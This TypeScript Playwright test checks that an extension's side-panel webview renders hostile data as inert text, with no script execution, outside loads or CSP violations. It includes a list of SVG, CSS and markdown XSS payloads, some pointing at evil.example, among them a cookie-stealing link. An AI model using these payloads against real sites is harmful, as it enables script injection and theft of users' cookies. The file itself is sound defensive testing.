// The side panel's webview (real Chromium through the visual harness, with the extension's HTML and
// CSP) given every field filled with SVG, CSS and markdown-link payloads on top of the panel's own
// XSS corpus: bodies, headers, URLs, error messages, request names, notices. Nothing may run, load
// or restyle, the CSP must report nothing, and every payload must be shown as plain text.
import { strict as assert } from 'node:assert';
import { join, resolve } from 'node:path';
import { pathToFileURL } from 'node:url';
import type { Page, Request } from 'playwright-core';

interface HarnessPage extends Page {
  dialogs: string[];
  errors: string[];
}
interface Harness {
  origin: string;
  open(theme?: string): Promise<HarnessPage>;
  post(page: Page, message: unknown): Promise<void>;
  show(page: Page, snapshot: unknown): Promise<void>;
  close(): Promise<void>;
}
interface Fixtures {
  XSS_PAYLOADS: string[];
  hostile(now?: number): Record<string, unknown>;
}

const root = resolve(__dirname, '..', '..');
// The harness is an ES module; a real dynamic import keeps it one under the CommonJS test build.
// eslint-disable-next-line @typescript-eslint/no-implied-eval -- tsx turns import() into require(); only a real import() loads these ES modules
const importEsm = new Function('u', 'return import(u)') as (u: string) => Promise<unknown>;

/**
 * SVG, CSS and markdown-link payloads. No double quote or backslash in any, so each survives being
 * spliced into the JSON bodies of the corpus unchanged.
 */
export const EXTRA_PAYLOADS = [
  "<svg><animate onbegin=window.__xss='svg-animate' attributeName=x dur=1s></animate></svg>",
  "<svg><a xlink:href='javascript:window.__xss=1'><text x=20 y=20>svg-link</text></a></svg>",
  "<svg><foreignObject><img src=x onerror=window.__xss='svg-fo'></foreignObject></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss='mxss'>",
  "<div style='background:url(javascript:window.__xss=1);position:fixed;inset:0'>css-url</div>",
  '<style>@import url(https://evil.example/i.css);*{background:url(https://evil.example/b.png)}</style>',
  '<link rel=stylesheet href=https://evil.example/y.css>',
  'x{}</style><style>#app{display:none}</style>',
  '[docs](https://evil.example/steal?c=document.cookie) ![pixel](https://evil.example/p.png)',
  '[click](javascript:window.__xss=5) <https://evil.example/auto>',
  "<a href=javascript:window.__xss='a'>link</a><object data=javascript:window.__xss=2></object>",
  "<base href=https://evil.example/><meta http-equiv=refresh content='0;url=javascript:window.__xss=3'>",
];

/** `snapshot` with every payload-bearing string extended by the extra payloads (JSON bodies stay JSON). */
function extend(v: unknown): unknown {
  const marker = '<img src=x onerror=';
  if (typeof v === 'string') return v.includes(marker) ? v.split(marker).join(`${EXTRA_PAYLOADS.join(' ')} ${marker}`) : v;
  if (Array.isArray(v)) return v.map(extend);
  if (v && typeof v === 'object') return Object.fromEntries(Object.entries(v).map(([k, x]) => [k, extend(x)]));
  return v;
}

describe('adversarial: webview with SVG, CSS and markdown payloads (Chromium)', function () {
  this.timeout(120_000);
  let h: Harness;
  let fx: Fixtures;

  before(async function () {
    const harness = (await importEsm(pathToFileURL(join(root, 'test/visual/panel-harness.mjs')).href)) as { chromiumPath(): string | null; startHarness(): Promise<Harness> };
    if (!harness.chromiumPath()) {
      console.log('    (skipped: Chromium is not installed at /usr/bin/chromium)');
      this.skip();
    }
    fx = (await importEsm(pathToFileURL(join(root, 'test/visual/fixtures.mjs')).href)) as Fixtures;
    h = await harness.startHarness();
  });
  after(async () => h?.close());

  it('runs nothing, loads nothing from data, reports no CSP violation, and shows every payload as text', async () => {
    const snapshot = extend(fx.hostile()) as Record<string, unknown>;
    // The corpus must really carry the payloads in bodies, headers, URLs, messages and names.
    const flat = JSON.stringify(snapshot);
    for (const p of EXTRA_PAYLOADS) assert.ok(flat.split(p).length > 10, `payload spread too thin: ${p}`);
    const page = await h.open('dark');
    const foreign: string[] = [];
    page.on('request', (r: Request) => {
      if (!r.url().startsWith(h.origin) && !r.url().startsWith('data:')) foreign.push(r.url());
    });
    await h.show(page, snapshot);
    const check = async (where: string): Promise<void> => {
      const r = await page.evaluate(() => ({
        xss: (window as unknown as { __xss?: unknown }).__xss,
        csp: (window as unknown as { __csp: unknown[] }).__csp,
        injected: document.querySelectorAll('#app svg:not(.codicon), #app math, #app style, #app link, #app base, #app meta, #app object, #app iframe, #app img:not(.body-image), [onerror], [onload], [onbegin], a[href^="javascript"], [style*="url("]').length,
        appVisible: getComputedStyle(document.getElementById('app') ?? document.body).display !== 'none',
        base: document.baseURI,
      }));
      assert.equal(r.xss, undefined, `${where}: a payload ran`);
      assert.deepEqual(r.csp, [], `${where}: CSP violations`);
      assert.equal(r.injected, 0, `${where}: markup from data reached the DOM`);
      assert.ok(r.appVisible, `${where}: data restyled the panel`);
      assert.ok(r.base.startsWith(h.origin), `${where}: the base URL changed to ${r.base}`);
      assert.deepEqual(foreign, [], `${where}: requests left the panel`);
      assert.deepEqual(page.dialogs, [], `${where}: a dialog opened`);
      assert.deepEqual(page.errors, [], `${where}: page errors`);
    };
    await check('response');
    for (const tab of ['headers', 'timing', 'request', 'redirects', 'body']) {
      await page.getByTestId(`tab-${tab}`).click();
      await check(`tab ${tab}`);
    }
    const text = (await page.locator('#app').textContent()) ?? '';
    for (const p of EXTRA_PAYLOADS) assert.ok(text.includes(p), `payload not shown as text: ${p}`);
    await h.post(page, { type: 'notice', level: 'error', message: EXTRA_PAYLOADS.join(' ') });
    await h.post(page, { type: 'fixResult', exchangeId: 'ex-xss', fixId: 'fix-0', applied: false, message: EXTRA_PAYLOADS[4], key: null });
    await page.waitForTimeout(200);
    await check('notices');
    await page.context().close();
  });
});
